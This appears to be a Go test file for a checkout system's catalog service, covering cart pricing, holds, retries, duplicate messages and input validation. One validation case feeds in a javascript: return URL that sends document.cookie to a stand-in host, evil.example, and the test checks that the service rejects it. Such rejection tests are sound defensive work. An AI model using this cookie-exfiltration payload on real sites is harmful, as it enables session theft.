package catalog

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/jetcheckout/jetcheckout/events"
	"github.com/jetcheckout/jetcheckout/internal/natstest"
	"github.com/jetcheckout/jetcheckout/internal/steptest"
	"github.com/jetcheckout/jetcheckout/internal/store"
	"github.com/jetcheckout/jetcheckout/runner"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/micro"
	"github.com/shopspring/decimal"
	bolt "go.etcd.io/bbolt"
)

// newService is a catalog on a fresh bbolt file and an embedded JetStream with the demo
// rates and no products.
func newService(t *testing.T) *Service {
	t.Helper()
	svc, err := New(steptest.DB(t, "catalog"), openCarts(t, natstest.Start(t)), steptest.Logger(t), demoRates(t))
	if err != nil {
		t.Fatal(err)
	}
	return svc
}

// openCarts opens the carts bucket with a signing key of the catalog's own: its carts are
// signed and checked as in a shop.
func openCarts(t *testing.T, env *natstest.Env) *Carts {
	t.Helper()
	carts, err := OpenCarts(context.Background(), env.JS, catalogKeys(t))
	if err != nil {
		t.Fatal(err)
	}
	return carts
}

// catalogKeys are new signing keys of the catalog, its seed held.
func catalogKeys(t *testing.T) *events.Keys {
	t.Helper()
	seed, public, err := events.GenerateSeed()
	if err != nil {
		t.Fatal(err)
	}
	keys, err := events.NewKeys([]string{events.ServiceCatalog + "=" + public}, map[string]string{events.ServiceCatalog: seed})
	if err != nil {
		t.Fatal(err)
	}
	return keys
}

// harness is the seeded catalog with its runner and micro service on an embedded
// JetStream, and a watcher of every checkout event.
type harness struct {
	*steptest.Harness
	svc *Service
}

func start(t *testing.T) *harness {
	t.Helper()
	cfg := runner.Config{Name: "catalog", RetryBase: 10 * time.Millisecond}
	env := natstest.Start(t)
	sh, svc := steptest.StartOn(t, env, cfg, func(db *bolt.DB, log *slog.Logger) (*Service, error) {
		svc, err := New(db, openCarts(t, env), log, demoRates(t), WithCoupons(demoCoupons(t)), WithPromotions(demoPromotions(t)))
		if err == nil {
			_, err = svc.Seed(demoSeed(t))
		}
		return svc, err
	})
	h := &harness{sh, svc}
	// Once a message has gone through, the runner is past creating its consumer: a test
	// that ends sooner would stop it half-way, which it reports as an error.
	h.barrier(t)
	h.Serve(t, svc.Serve)
	return h
}

// call sends a request to an endpoint and returns the reply, error replies included.
func (h *harness) call(t *testing.T, subject events.Subject, body any) *nats.Msg {
	t.Helper()
	data, ok := body.([]byte)
	if !ok {
		var err error
		if data, err = json.Marshal(body); err != nil {
			t.Fatal(err)
		}
	}
	msg, err := h.Env.NC.Request(string(subject), data, steptest.Timeout)
	if err != nil {
		t.Fatalf("request %s: %v", subject, err)
	}
	return msg
}

// newCart creates a cart of customer cus_ada through the API.
func (h *harness) newCart(t *testing.T, currency string, items ...events.CartItem) events.Cart {
	t.Helper()
	return h.createCart(t, events.CreateCart{CustomerID: "cus_ada", Currency: currency, Items: items})
}

func item(productID string, qty int) events.CartItem {
	return events.CartItem{ProductID: productID, Quantity: qty}
}

func (h *harness) createCart(t *testing.T, req events.CreateCart) events.Cart {
	t.Helper()
	msg := h.call(t, events.CartsCreate, req)
	if code := msg.Header.Get(micro.ErrorCodeHeader); code != "" {
		t.Fatalf("create cart: %s %s", code, msg.Header.Get(micro.ErrorHeader))
	}
	var cart events.Cart
	if err := json.Unmarshal(msg.Data, &cart); err != nil {
		t.Fatal(err)
	}
	return cart
}

// putCart stores a cart as it is, for states the API does not create: in the bucket as
// created, and its status in the view.
func (h *harness) putCart(t *testing.T, cart events.Cart) {
	t.Helper()
	created := cart
	created.Status, created.CheckoutID = events.CartOpen, ""
	if err := h.svc.carts.create(context.Background(), created); err != nil {
		t.Fatal(err)
	}
	if cart.Status == events.CartOpen {
		return
	}
	err := h.svc.db.Update(func(tx *bolt.Tx) error {
		return store.Put(tx.Bucket(bucketCarts), cart.ID, cartState{Status: cart.Status, CheckoutID: cart.CheckoutID})
	})
	if err != nil {
		t.Fatal(err)
	}
}

func (h *harness) cart(t *testing.T, id string) events.Cart {
	t.Helper()
	cart, err := h.svc.Cart(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	return cart
}

// wantCart checks a cart's status and the checkout it names.
func (h *harness) wantCart(t *testing.T, cartID, status, checkoutID string) {
	t.Helper()
	if got := h.cart(t, cartID); got.Status != status || got.CheckoutID != checkoutID {
		t.Errorf("cart %s is %s held by %q, want %s held by %q", cartID, got.Status, got.CheckoutID, status, checkoutID)
	}
}

func address(country, region string) events.Address {
	return events.Address{Name: "Ada Lovelace", Line1: "1 Main St", City: "Springfield", State: region, PostalCode: "12345", Country: country}
}

func request(checkoutID, cartID, customerID string, ship events.Address) events.CheckoutRequest {
	return events.CheckoutRequest{
		CheckoutID: checkoutID, CartID: cartID, CustomerID: customerID,
		CustomerEmail: "ada@example.com", PaymentMethodID: "pm_card_visa",
		ShippingAddress: ship, BillingAddress: address("US", "CA"),
	}
}

// checkout publishes a checkout request as a client does.
func (h *harness) checkout(t *testing.T, req events.CheckoutRequest, msgID string) {
	t.Helper()
	data, err := json.Marshal(req)
	if err != nil {
		t.Fatal(err)
	}
	h.Env.PublishRaw(t, string(events.Requested), data, msgID)
}

// quote expects the checkout's validate_cart_items to have priced the cart.
func (h *harness) quote(t *testing.T, checkoutID string) (q events.Quote) {
	t.Helper()
	h.Expect(t, checkoutID, events.CartValidated, &q, events.CartFailed)
	return q
}

// failure expects the checkout's validate_cart_items to have failed.
func (h *harness) failure(t *testing.T, checkoutID string) (f events.StepFailure) {
	t.Helper()
	h.Expect(t, checkoutID, events.CartFailed, &f, events.CartValidated)
	return f
}

// barrier returns once every message published before it has been handled: the runner
// handles its consumer's messages one at a time, in order.
func (h *harness) barrier(t *testing.T) {
	t.Helper()
	id := fmt.Sprintf("barrier-%d", time.Now().UnixNano())
	h.checkout(t, request(id, "cart_none", "c", address("US", "")), "")
	h.failure(t, id)
}

// settle publishes a terminal event of a checkout, as the coordinator does.
func (h *harness) settle(t *testing.T, checkoutID string, typ events.Subject) {
	t.Helper()
	var payload any = events.CheckoutFailed{Step: events.StepProcessPayment, Code: events.CodeCardDeclined, Message: "declined"}
	if typ == events.Completed {
		payload = events.CheckoutCompleted{OrderID: "ord_1", OrderNumber: "1001", PaymentIntentID: "pi_1", Total: dec("1"), Currency: "USD"}
	}
	h.Env.Publish(t, events.Must(checkoutID, typ, payload))
}

func (h *harness) waitStatus(t *testing.T, cartID, status string) events.Cart {
	t.Helper()
	var cart events.Cart
	natstest.Eventually(t, steptest.Timeout, func() bool {
		cart = h.cart(t, cartID)
		return cart.Status == status
	}, "cart %s never became %s", cartID, status)
	return cart
}

func TestValidatePricesAndHoldsCart(t *testing.T) {
	h := start(t)
	cart := h.newCart(t, "USD", item("tee-jetstream", 2), item("mug-nats", 1))

	h.checkout(t, request("co-1", cart.ID, "cus_ada", address("US", "CA")), "")
	q := h.quote(t, "co-1")

	// 2 × 25.00 + 12.50 = 62.50; CA tax 7.25% = 4.53125 → 4.53; shipping 5.00 + 3 × 1.00.
	if q.CartID != cart.ID || q.CustomerID != "cus_ada" || q.CustomerEmail != "ada@example.com" ||
		q.PaymentMethodID != "pm_card_visa" || q.Currency != "USD" ||
		q.ShippingAddress != address("US", "CA") || q.BillingAddress != address("US", "CA") {
		t.Errorf("quote = %+v", q)
	}
	if !q.Subtotal.Equal(dec("62.50")) || !q.Tax.Equal(dec("4.53")) || !q.Shipping.Equal(dec("8.00")) || !q.Total.Equal(dec("75.03")) {
		t.Errorf("quote: %s + %s + %s = %s, want 62.50 + 4.53 + 8.00 = 75.03", q.Subtotal, q.Tax, q.Shipping, q.Total)
	}
	if len(q.Lines) != 2 || q.Lines[0].Name != "JetStream T-Shirt" || !q.Lines[0].UnitPrice.Equal(dec("25")) ||
		!q.Lines[0].Total.Equal(dec("50")) || q.Lines[1].ProductID != "mug-nats" || q.Lines[1].Quantity != 1 {
		t.Errorf("lines = %+v", q.Lines)
	}
	h.wantCart(t, cart.ID, events.CartCheckingOut, "co-1")

	// The checkout completes: the cart is checked out and cannot be checked out again.
	h.settle(t, "co-1", events.Completed)
	if got := h.waitStatus(t, cart.ID, events.CartCheckedOut); got.CheckoutID != "co-1" {
		t.Errorf("checked out by %q", got.CheckoutID)
	}
	h.checkout(t, request("co-2", cart.ID, "cus_ada", address("US", "CA")), "")
	if f := h.failure(t, "co-2"); f.Code != events.CodeCartCheckedOut || f.Step != events.StepValidateCart {
		t.Errorf("second checkout: %+v", f)
	}
	if n := len(h.Watch.All("co-1")); n != 2 {
		t.Errorf("co-1 has %d events, want the validation and the completion only: %v", n, h.Watch.All("co-1"))
	}
}

func TestValidateJPYCart(t *testing.T) {
	h := start(t)
	cart := h.createCart(t, events.CreateCart{CustomerID: "cus_jp", Currency: "JPY", Items: []events.CartItem{
		{ProductID: "tee-jetstream", Quantity: 3},
	}})
	h.checkout(t, request("co-jp", cart.ID, "cus_jp", address("JP", "")), "")
	q := h.quote(t, "co-jp")
	// 2800 × 3 = 8400 and shipping 800 + 3 × 100 = 1100, in whole yen, Japan's 10%
	// consumption tax included: 9500 × 10/110 = 863.6 → 864 of it.
	if !q.Subtotal.Equal(dec("8400")) || !q.Tax.Equal(dec("864")) || !q.Shipping.Equal(dec("1100")) || !q.Total.Equal(dec("9500")) || !q.TaxIncluded {
		t.Errorf("JPY quote: %s + %s = %s, tax %s included %v; want 8400 + 1100 = 9500, tax 864 included", q.Subtotal, q.Shipping, q.Total, q.Tax, q.TaxIncluded)
	}
	if q.Currency != "JPY" || q.Lines[0].Name != "JetStream T-Shirt" || !q.Lines[0].Total.Equal(dec("8400")) {
		t.Errorf("JPY quote: %+v", q)
	}
}

// A failed checkout gives the cart back, so the customer can try again.
func TestFailedCheckoutReopensCart(t *testing.T) {
	h := start(t)
	cart := h.newCart(t, "EUR", item("keyboard-bbolt", 1))
	h.checkout(t, request("co-declined", cart.ID, "cus_ada", address("DE", "")), "")
	h.quote(t, "co-declined")

	h.settle(t, "co-declined", events.Failed)
	if got := h.waitStatus(t, cart.ID, events.CartOpen); got.CheckoutID != "" {
		t.Errorf("reopened cart still names checkout %q", got.CheckoutID)
	}

	h.checkout(t, request("co-retry", cart.ID, "cus_ada", address("DE", "")), "")
	q := h.quote(t, "co-retry")
	// 119.00, 19% VAT included (19.00 of it), shipping free over 80.00.
	if !q.Total.Equal(dec("119.00")) || !q.Tax.Equal(dec("19.00")) || !q.TaxIncluded || !q.Shipping.IsZero() {
		t.Errorf("retry quote total %s tax %s included %v shipping %s", q.Total, q.Tax, q.TaxIncluded, q.Shipping)
	}
	h.wantCart(t, cart.ID, events.CartCheckingOut, "co-retry")

	// The old checkout no longer holds the cart: even a stray terminal event of it
	// leaves the retry's hold alone.
	h.settle(t, "co-declined", events.Completed)
	h.barrier(t)
	h.wantCart(t, cart.ID, events.CartCheckingOut, "co-retry")
}

// While a checkout holds the cart, another is refused, and the other's end does not free it.
func TestCartHeldByAnotherCheckout(t *testing.T) {
	h := start(t)
	cart := h.newCart(t, "USD", item("hoodie-saga", 1))
	h.checkout(t, request("co-first", cart.ID, "cus_ada", address("US", "NY")), "")
	h.quote(t, "co-first")
	h.checkout(t, request("co-second", cart.ID, "cus_ada", address("US", "NY")), "")
	if f := h.failure(t, "co-second"); f.Code != events.CodeCartInCheckout {
		t.Errorf("second checkout: %+v", f)
	}

	h.settle(t, "co-second", events.Failed)
	h.barrier(t)
	h.wantCart(t, cart.ID, events.CartCheckingOut, "co-first")
}

func TestValidateFailures(t *testing.T) {
	h := start(t)
	usd := func(items ...events.CartItem) events.Cart { return h.newCart(t, "USD", items...) }
	tee := events.CartItem{ProductID: "tee-jetstream", Quantity: 1}
	stored := func(id, currency string, items ...events.CartItem) events.Cart {
		c := events.Cart{ID: id, CustomerID: "cus_ada", Currency: currency, Items: items, Status: events.CartOpen}
		h.putCart(t, c)
		return c
	}
	// changed publishes the request of checkout id for the cart, changed by change.
	changed := func(id string, change func(r *events.CheckoutRequest)) func(*testing.T, events.Cart) string {
		return func(t *testing.T, c events.Cart) string {
			r := request(id, c.ID, "cus_ada", address("US", ""))
			change(&r)
			h.checkout(t, r, "")
			return id
		}
	}
	tests := []struct {
		name string
		cart events.Cart
		// publish returns the checkout ID of what it published
		publish func(t *testing.T, cart events.Cart) string
		code    string
	}{
		{"not JSON", events.Cart{}, func(t *testing.T, _ events.Cart) string {
			h.Env.PublishRaw(t, string(events.Requested), []byte("checkout please"), "m-notjson")
			return events.RequestEnvelope([]byte("checkout please"), events.Origin{MsgID: "m-notjson"}).CheckoutID
		}, events.CodeInvalidRequest},
		{"unknown field", usd(tee), func(t *testing.T, c events.Cart) string {
			data := fmt.Sprintf(`{"checkout_id":"co-unknown","cart_id":%q,"coupon":"FREE"}`, c.ID)
			h.Env.PublishRaw(t, string(events.Requested), []byte(data), "")
			return "co-unknown"
		}, events.CodeInvalidRequest},
		{"card number instead of a payment method", usd(tee), changed("co-card", func(r *events.CheckoutRequest) {
			r.PaymentMethodID = "4242424242424242"
		}), events.CodeInvalidRequest},
		{"unknown cart", events.Cart{ID: "cart_missing"}, nil, events.CodeCartNotFound},
		{"a cart ID no key can be", events.Cart{ID: "cart.*"}, nil, events.CodeCartNotFound},
		{"a cart ID of several tokens", events.Cart{ID: "cart.a.b"}, nil, events.CodeCartNotFound},
		{"someone else's cart", usd(tee), func(t *testing.T, c events.Cart) string {
			h.checkout(t, request("co-thief", c.ID, "cus_mallory", address("US", "")), "")
			return "co-thief"
		}, events.CodeInvalidRequest},
		{"empty cart", stored("cart_empty", "USD"), nil, events.CodeCartEmpty},
		{"product withdrawn", stored("cart_gone", "USD", events.CartItem{ProductID: "discontinued", Quantity: 1}), nil, events.CodeProductNotFound},
		{"product not sold in the cart's currency", stored("cart_eur", "EUR", events.CartItem{ProductID: "poster-route66", Quantity: 1}), nil, events.CodeCurrencyMismatch},
		{"zero quantity", stored("cart_zero", "USD", events.CartItem{ProductID: "mug-nats", Quantity: 0}), nil, events.CodeInvalidQuantity},
		{"country without a tax rate", usd(tee), func(t *testing.T, c events.Cart) string {
			h.checkout(t, request("co-brazil", c.ID, "cus_ada", address("BR", "")), "")
			return "co-brazil"
		}, events.CodeUnsupportedCountry},
		{"script as return_url", usd(tee), changed("co-js", func(r *events.CheckoutRequest) {
			r.ReturnURL = "javascript:fetch('https://evil.example/'+document.cookie)"
		}), events.CodeInvalidRequest},
		{"plain http return_url", usd(tee), changed("co-http", func(r *events.CheckoutRequest) {
			r.ReturnURL = "http://evil.example/phish"
		}), events.CodeReturnURLNotAllowed},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			publish := tt.publish
			if publish == nil {
				publish = func(t *testing.T, c events.Cart) string {
					id := fmt.Sprintf("co-fail-%d", i)
					h.checkout(t, request(id, c.ID, "cus_ada", address("US", "")), "")
					return id
				}
			}
			f := h.failure(t, publish(t, tt.cart))
			if f.Code != tt.code || f.Step != events.StepValidateCart || f.Message == "" {
				t.Errorf("failure = %+v, want code %s", f, tt.code)
			}
			t.Logf("message: %s", f.Message)
			if tt.cart.CustomerID != "" {
				h.wantCart(t, tt.cart.ID, events.CartOpen, "")
			}
		})
	}
}

// The same request delivered twice (a client retry with a new Nats-Msg-Id) is one checkout.
func TestDuplicateRequest(t *testing.T) {
	h := start(t)
	cart := h.newCart(t, "USD", item("stickers", 4))
	req := request("co-dup", cart.ID, "cus_ada", address("US", ""))
	h.checkout(t, req, "attempt-1")
	h.checkout(t, req, "attempt-2")
	h.barrier(t)
	if v, f := h.Watch.Count("co-dup", events.CartValidated), h.Watch.Count("co-dup", events.CartFailed); v != 1 || f != 0 {
		t.Errorf("co-dup: %d validated, %d failed; want one validation", v, f)
	}
	h.wantCart(t, cart.ID, events.CartCheckingOut, "co-dup")

	// Without a checkout_id each message is its own checkout: the second finds the cart taken.
	other := h.newCart(t, "USD", item("stickers", 1))
	anon := request("", other.ID, "cus_ada", address("US", ""))
	data, _ := json.Marshal(anon)
	h.checkout(t, anon, "anon-1")
	h.checkout(t, anon, "anon-2")
	first, second := events.RequestEnvelope(data, events.Origin{MsgID: "anon-1"}).CheckoutID, events.RequestEnvelope(data, events.Origin{MsgID: "anon-2"}).CheckoutID
	h.quote(t, first)
	if f := h.failure(t, second); f.Code != events.CodeCartInCheckout {
		t.Errorf("second anonymous request: %+v", f)
	}

	// A terminal event delivered twice settles the cart once, and emits nothing.
	h.settle(t, "co-dup", events.Completed)
	h.PublishCopy(t, events.Must("co-dup", events.Completed,
		events.CheckoutCompleted{OrderID: "ord_1", Total: dec("1"), Currency: "USD"}), "again")
	h.barrier(t)
	h.wantCart(t, cart.ID, events.CartCheckedOut, "co-dup")
	if n := len(h.Watch.All("co-dup")); n != 3 { // validated + two completions
		t.Errorf("co-dup events: %v", h.Watch.All("co-dup"))
	}
}

// A malformed terminal event is rejected and changes nothing.
func TestMalformedEventRejected(t *testing.T) {
	h := start(t)
	cart := h.newCart(t, "USD", item("mug-nats", 1))
	h.checkout(t, request("co-bad", cart.ID, "cus_ada", address("US", "")), "")
	h.quote(t, "co-bad")

	bad := events.Must("co-bad", events.Completed, map[string]any{"order_id": 42})
	h.Env.Publish(t, bad)
	if why := h.Rejection(t, "co-bad"); why.Subject != string(events.Completed) {
		t.Fatalf("rejection %+v", why)
	}
	h.wantCart(t, cart.ID, events.CartCheckingOut, "co-bad")
}

// On the bus, an address is read as at the HTTP API: state (or region, its old name) and
// line2 are taken and priced; an unknown field fails validate_cart naming it.
func TestRequestAddressOnTheBus(t *testing.T) {
	h := start(t)
	publish := func(id, fields string) {
		cart := h.newCart(t, "USD", item("stickers", 1))
		data, _ := json.Marshal(request(id, cart.ID, "cus_ada", address("US", "CA")))
		h.Env.PublishRaw(t, string(events.Requested), []byte(strings.Replace(string(data), `"state":"CA"`, fields, 1)), "")
	}
	publish("co-state", `"line2":"Apt 4","state":"NY"`)
	publish("co-region", `"region":"NY"`)
	for _, id := range []string{"co-state", "co-region"} {
		q := h.quote(t, id)
		if q.ShippingAddress.State != "NY" || !q.Tax.Equal(decimal.RequireFromString("0.20")) { // 4% of 4.99
			t.Errorf("%s: ships to %+v, tax %s; want NY's 0.20", id, q.ShippingAddress, q.Tax)
		}
	}
	publish("co-county", `"state":"CA","county":"SF"`)
	f := h.failure(t, "co-county")
	if want := `checkout.requested payload: malformed event: unknown address field "shipping_address.county"`; f.Code != events.CodeInvalidRequest || !strings.HasPrefix(f.Message, want) {
		t.Errorf("failure %+v, want %s starting %q", f, events.CodeInvalidRequest, want)
	}
}
